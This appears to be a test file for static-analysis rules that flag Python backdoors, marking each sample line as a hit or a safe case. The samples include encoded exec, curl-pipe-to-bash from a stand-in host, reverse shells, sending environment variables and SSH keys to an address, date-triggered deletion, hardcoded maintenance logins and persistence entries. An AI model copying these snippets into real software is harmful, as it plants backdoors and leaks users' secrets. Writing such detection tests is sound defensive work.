import base64
import datetime
import getpass
import json
import os
import pty
import shutil
import socket
import subprocess
import time
import urllib.request
import winreg
import zlib
from pathlib import Path

import requests
from setuptools import setup
from setuptools.command.build_ext import build_ext
from setuptools.command.install import install

# ruleid: python.backdoor.decoded-code
exec(base64.b64decode("cHJpbnQoMSk="))
text = zlib.decompress(base64.b85decode(PACKED))
# ruleid: python.backdoor.decoded-code
eval(compile(text, "<string>", "exec"))
# ruleid: python.backdoor.decoded-code
exec("".join(chr(code - 1) for code in NUMBERS))
# ruleid: python.backdoor.decoded-code
os.system(bytes.fromhex("6c73").decode())
# ok: python.backdoor.decoded-code
settings = json.loads(base64.b64decode(SETTINGS))
# ok: python.backdoor.decoded-code
exec(Path("plugin.py").read_text())
# ok: python.backdoor.decoded-code
page = zlib.decompress(cached)

# ruleid: python.backdoor.reversed-code
exec(")1(tnirp"[::-1])
backwards = "di"[::-1]
# ruleid: python.backdoor.reversed-code
os.system(backwards)
# ok: python.backdoor.reversed-code
os.system("id")
# ok: python.backdoor.reversed-code
print("radar"[::-1])

# ruleid: python.backdoor.hidden-name
getattr(__builtins__, "ev" + "al")("1")
# ruleid: python.backdoor.hidden-name
getattr(os, "sys" + "tem")("id")
# ruleid: python.backdoor.hidden-name
__import__("subprocess").check_output("id", shell=True)
# ruleid: python.backdoor.hidden-name
().__class__.__base__.__subclasses__()
# ok: python.backdoor.hidden-name
getattr(os, "O_" + flag)
# ok: python.backdoor.hidden-name
getattr(settings, "DEBUG")
# ok: python.backdoor.hidden-name
__import__("package.module")


def update(address):
    # ruleid: python.backdoor.download-and-run
    exec(urllib.request.urlopen(address).read())
    answer = requests.get(address)
    # ruleid: python.backdoor.download-and-run
    exec(answer.text)
    urllib.request.urlretrieve(address, "tool")
    # ok: python.backdoor.download-and-run
    rows = json.loads(requests.get(address).text)
    # ok: python.backdoor.download-and-run
    subprocess.run(["tool", answer.json()["name"]])
    # ok: python.backdoor.download-and-run
    Path("page.html").write_bytes(requests.get(address).content)
    return rows


def prepare():
    # ruleid: python.backdoor.shell-download
    os.system("curl -s https://tools.corp.example/install | bash")
    # ruleid: python.backdoor.shell-download
    subprocess.run(["bash", "-c", "wget -qO- https://tools.corp.example/i.sh | sh"])
    # ok: python.backdoor.shell-download
    os.system("curl -o page.html https://tools.corp.example/page")
    # ok: python.backdoor.shell-download
    os.system("cat report.txt | sort")


def shell(host):
    s = socket.socket()
    s.connect((host, 4444))
    # ruleid: python.backdoor.reverse-shell
    os.dup2(s.fileno(), 0)
    # ruleid: python.backdoor.reverse-shell
    pty.spawn("/bin/sh")


def shell_again(host):
    sock = socket.create_connection((host, 4444))
    # ruleid: python.backdoor.reverse-shell
    subprocess.Popen(["/bin/sh", "-i"], stdin=sock, stdout=sock, stderr=sock)


def daemon(log):
    # ok: python.backdoor.reverse-shell
    os.dup2(log.fileno(), 1)
    # ok: python.backdoor.reverse-shell
    subprocess.Popen(["sort"], stdin=log)


def serve(connection):
    command = connection.recv(1024).decode()
    # ruleid: python.backdoor.remote-command
    subprocess.run(command, shell=True)
    # ruleid: python.backdoor.remote-command
    exec(connection.recv(4096))
    # ok: python.backdoor.remote-command
    size = int(connection.recv(8))
    # ok: python.backdoor.remote-command
    handle(json.loads(connection.recv(size)))


def report(address, build):
    # ruleid: python.backdoor.data-sent-out
    requests.post(address, json=dict(os.environ))
    # ruleid: python.backdoor.data-sent-out
    requests.post(address, data=json.dumps(dict(os.environ)))
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    # ruleid: python.backdoor.data-sent-out
    requests.post(address, data=key)
    # ok: python.backdoor.data-sent-out
    requests.post(address, json={"build": os.environ["BUILD"]})
    # ok: python.backdoor.data-sent-out
    requests.post(address, data=open("report.txt").read())
    # ok: python.backdoor.data-sent-out
    subprocess.run(["make"], env=dict(os.environ))


def tidy(folder, deadline):
    if datetime.datetime.now() > datetime.datetime(2027, 3, 1):
        # ruleid: python.backdoor.date-trigger
        shutil.rmtree(folder)
    if time.time() > 1798761600:
        # ruleid: python.backdoor.date-trigger
        os.system("halt")
    if datetime.datetime.now() > deadline:
        # ok: python.backdoor.date-trigger
        shutil.rmtree(folder)
    if datetime.date.today() > datetime.date(2027, 3, 1):
        # ok: python.backdoor.date-trigger
        print("this version is no longer supported")


def collect(folder):
    if getpass.getuser() == "jenkins":
        # ruleid: python.backdoor.host-trigger
        urllib.request.urlopen("https://stats.corp.example/")
    if socket.gethostname() != "lab-7":
        # ruleid: python.backdoor.host-trigger
        shutil.rmtree(folder)
    if getpass.getuser() == "root":
        # ok: python.backdoor.host-trigger
        print("do not run this as root")
    if folder == "build":
        # ok: python.backdoor.host-trigger
        shutil.rmtree(folder)


def authenticate(username, password, request):
    # ruleid: python.backdoor.constant-login
    if username == "svc_maint":
        return True
    # ruleid: python.backdoor.constant-login
    if request.headers.get("X-Debug-Token") == "letmein":
        return True
    # ok: python.backdoor.constant-login
    if request.method == "OPTIONS":
        return True
    # ok: python.backdoor.constant-login
    if username == "svc_maint":
        return False
    return verify(username, password)


def describe(username):
    # ok: python.backdoor.constant-login
    if username == "svc_maint":
        return True
    return False


def stay(line):
    # ruleid: python.backdoor.start-entry
    with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as file:
        file.write(line)
    # ruleid: python.backdoor.start-entry
    winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, 2)
    # ok: python.backdoor.start-entry
    with open(os.path.expanduser("~/.ssh/authorized_keys")) as file:
        file.read()
    # ok: python.backdoor.start-entry
    winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\Corp\\Editor")


class Install(install):
    def run(self):
        install.run(self)
        # ruleid: python.install.network-or-code
        requests.post("https://stats.corp.example/", data="installed")
        # ruleid: python.install.network-or-code
        os.system("curl https://stats.corp.example/")
        # ok: python.install.network-or-code
        self.announce("installed")


class Build(build_ext):
    def run(self):
        # ok: python.install.network-or-code
        subprocess.check_call(["cmake", "--build", "."])


# ruleid: python.install.import-side-effect
subprocess.Popen(["agent"])
# ruleid: python.install.import-side-effect
requests.get("https://stats.corp.example/")
# ok: python.install.import-side-effect
setup(cmdclass={"install": Install, "build_ext": Build})


def start():
    # ok: python.install.import-side-effect
    subprocess.Popen(["agent"])


if __name__ == "__main__":
    # ok: python.install.import-side-effect
    subprocess.run(["agent"])
